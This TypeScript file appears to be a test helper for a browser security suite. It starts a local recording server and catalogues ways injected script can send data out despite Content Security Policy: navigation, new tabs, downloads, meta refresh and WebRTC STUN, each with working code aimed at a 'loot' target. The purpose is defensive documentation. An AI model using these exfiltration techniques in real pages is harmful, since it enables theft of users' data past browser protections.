import { createSocket } from 'node:dgram';
import { createServer, type AddressInfo } from 'node:net';

/** A foreign server that records requests and packets. */
export interface ForeignServer {
  readonly origin: string;
  readonly port: number;
  /** The first line of each request and an entry per packet; a silent connection leaks nothing. */
  readonly heard: string[];
  readonly close: () => Promise<void>;
}

/** Opens a port that responds to every request with an empty page and receives packets on the same number. */
export async function openForeignServer(): Promise<ForeignServer> {
  const heard: string[] = [];
  const page =
    'HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n';
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (bytes) => {
      heard.push(bytes.toString('latin1').split('\r\n', 1)[0] ?? '');
      socket.end(page);
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  const packets = createSocket('udp4').on('message', () => heard.push('a packet'));
  await new Promise<void>((done) => packets.bind(port, '127.0.0.1', done));
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    heard,
    close: async () => {
      packets.close();
      await new Promise((done) => server.close(done));
    },
  };
}

/** The target of a script and the data that it would send. */
interface Loot {
  readonly to: string;
  readonly port: number;
  readonly nonce: string;
}

/** A way for a script to send data elsewhere. */
export type ExfiltrationAttempt = (loot: Loot) => unknown;

/** Ways that no page can block, with reasons; the decision on remotes states the consequences. */
export const openRequests: Readonly<
  Record<string, { readonly why: string; readonly go: ExfiltrationAttempt }>
> = {
  navigation: {
    why: 'a policy that a page could set against leaving it was never finished by browsers',
    go: ({ to }) => location.assign(to),
  },
  'new tab': {
    why: 'as leaving the page; forbidding all new tabs would take the links to Facebook along',
    go: ({ to }) => window.open(to),
  },
  download: {
    why: 'as leaving the page; a link to a file elsewhere is one to a page elsewhere',
    go: ({ to }) => {
      const link = Object.assign(document.createElement('a'), { href: to, download: 'loot' });
      document.body.append(link);
      link.click();
    },
  },
  'page that is loaded anew elsewhere': {
    why: 'as leaving the page',
    go: ({ to }) =>
      document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${to}">`),
  },
  'peer connection': {
    why: 'browsers do not know the directive against it, and an empty frame gives back what a script takes away',
    go: async ({ port }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      peer.createDataChannel('loot');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
};
